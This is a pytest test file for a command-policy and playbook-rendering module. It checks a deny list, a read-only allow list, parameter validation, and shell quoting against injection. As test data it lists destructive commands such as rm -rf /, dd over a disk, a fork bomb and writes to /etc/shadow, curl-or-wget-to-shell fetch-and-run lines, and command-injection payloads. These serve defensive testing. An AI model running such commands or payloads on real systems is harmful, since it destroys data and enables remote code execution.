"""Command policy, read-only allow-list, parameter validation and quoting (no I/O)."""

from __future__ import annotations

import shlex
import subprocess
import uuid
from pathlib import Path

import pytest

from models.errors import BadRequest, PolicyDenied
from tools.command_policy import check_command_policy, is_read_only_command
from tools.playbooks import LIBRARY, load_spec, render, validate_params

DENIED = [
    "rm -rf /",
    "rm -rf / ",
    "sudo rm -fr /*",
    "rm -r -f ~",
    "rm --no-preserve-root -rf /",
    "mkfs.ext4 /dev/sda1",
    "dd if=/dev/zero of=/dev/sda bs=1M",
    ":(){ :|:& };:",
    "shutdown -h now",
    "sudo reboot",
    "systemctl poweroff",
    "curl -fsSL https://example.invalid/x.sh | sh",
    "wget -qO- http://x.invalid | sudo bash",
    'bash -c "$(curl -fsSL https://x.invalid)"',
    "chmod -R 777 /",
    "echo x > /etc/shadow",
]
ALLOWED = [
    "rm -rf /tmp/build-cache",
    "uptime",
    "echo shutdownless",
    "ls -la /var/log",
    "systemctl restart nginx",
    "curl -fsS http://localhost/health",
]


@pytest.mark.parametrize("command", DENIED)
def test_deny_list_refuses(command: str) -> None:
    with pytest.raises(PolicyDenied) as info:
        check_command_policy(command)
    assert info.value.code == "POLICY_DENIED" and info.value.status_code == 403


@pytest.mark.parametrize("command", ALLOWED)
def test_deny_list_allows_ordinary_commands(command: str) -> None:
    check_command_policy(command)


READ_ONLY = [
    "uptime",
    "df -h",
    "ps aux | grep nginx",
    "uname -a",
    "tail -n 100 /var/log/syslog",
    "journalctl -u nginx -n 50 --no-pager",
    "systemctl status nginx",
    "free -m",
    "cat /etc/os-release",
    "ss -tulpn",
    "top -b -n 1",
    "docker ps",
]
NOT_READ_ONLY = [
    "systemctl restart nginx",
    "journalctl --vacuum-time=2d",
    "find /tmp -delete",
    "find / -name x -exec rm {} ;",
    "cat /etc/passwd > /tmp/x",
    "uptime; rm -rf /tmp/x",
    "uptime && reboot",
    "echo $(rm -rf /tmp/x)",
    "echo `id`",
    "df -h\nrm -rf /tmp/x",
    "sudo cat /etc/shadow",
    "/bin/rm x",
    "apt-get install nginx",
    "ip route add 10.0.0.0/8 dev eth0",
    "sort -o /etc/passwd x",
    "docker rm -f web",
    "top",
    "",
]


@pytest.mark.parametrize("command", READ_ONLY)
def test_read_only_allow_list(command: str) -> None:
    assert is_read_only_command(command)


@pytest.mark.parametrize("command", NOT_READ_ONLY)
def test_changes_are_not_read_only(command: str) -> None:
    assert not is_read_only_command(command)


def test_every_shipped_playbook_validates_and_renders() -> None:
    names = set()
    for path in sorted(LIBRARY.glob("*.yaml")):
        spec = load_spec(path.read_text(), source=str(path))
        names.add(spec.name)
        given = {p.name: "nginx" for p in spec.params if p.required}
        plan = render(spec, validate_params(spec, given))
        assert len(plan) == len(spec.steps)
        for step in plan:
            check_command_policy(step["command"])
            assert "{{" not in step["command"]
    assert names == {
        "restart-service",
        "clear-disk-space",
        "rotate-logs",
        "patch-package",
        "collect-diagnostics",
    }


def _restart_spec():  # type: ignore[no-untyped-def]
    return load_spec((LIBRARY / "restart-service.yaml").read_text())


def test_parameter_errors_name_the_field() -> None:
    spec = _restart_spec()
    with pytest.raises(BadRequest) as missing:
        validate_params(spec, {})
    assert missing.value.fields == [{"field": "params.service"}]
    with pytest.raises(BadRequest) as unknown:
        validate_params(spec, {"service": "nginx", "extra": 1})
    assert unknown.value.fields == [{"field": "params.extra"}]
    with pytest.raises(BadRequest) as pattern:
        validate_params(spec, {"service": "nginx; rm -rf /tmp/x"})
    assert pattern.value.fields == [{"field": "params.service"}]


PAYLOADS = [
    "; touch {marker}",
    "$(touch {marker})",
    "`touch {marker}`",
    "x\ntouch {marker}",
    "' ; touch {marker}; echo '",
    '"; touch {marker}; echo "',
    "| touch {marker}",
    "&& touch {marker}",
    "${{IFS}}touch${{IFS}}{marker}",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_rendered_parameters_cannot_inject(payload: str, tmp_path: Path) -> None:
    """Render a template with a hostile value, run it with /bin/sh, and prove that the value
    arrived as one literal argument and the marker file was never created."""
    marker = tmp_path / f"x-{uuid.uuid4().hex}"
    value = payload.format(marker=marker)
    spec = load_spec(
        "name: t\nparams:\n  - name: v\nsteps:\n  - name: s\n    command: printf '%s' {{ v }}\n"
    )
    [step] = render(spec, validate_params(spec, {"v": value}))
    assert step["command"] == f"printf '%s' {shlex.quote(value)}"
    out = subprocess.run(["/bin/sh", "-c", step["command"]], capture_output=True, timeout=10)
    assert out.stdout.decode() == value
    assert not marker.exists()


def test_invalid_playbooks_are_rejected() -> None:
    with pytest.raises(ValueError, match="undeclared"):
        load_spec("name: b\nsteps:\n  - name: s\n    command: echo {{ nope }}\n")
    with pytest.raises(ValueError):
        load_spec("name: b\nsteps: []\n")
    with pytest.raises(ValueError):
        load_spec("name: b\nsteps:\n  - name: s\n    command: echo {{ x\n")
    with pytest.raises(ValueError, match="placeholders"):  # no expressions at all
        load_spec(
            "name: b\nparams:\n  - name: v\nsteps:\n  - name: s\n"
            '    command: "{{ v.__class__.__mro__ }}"\n'
        )
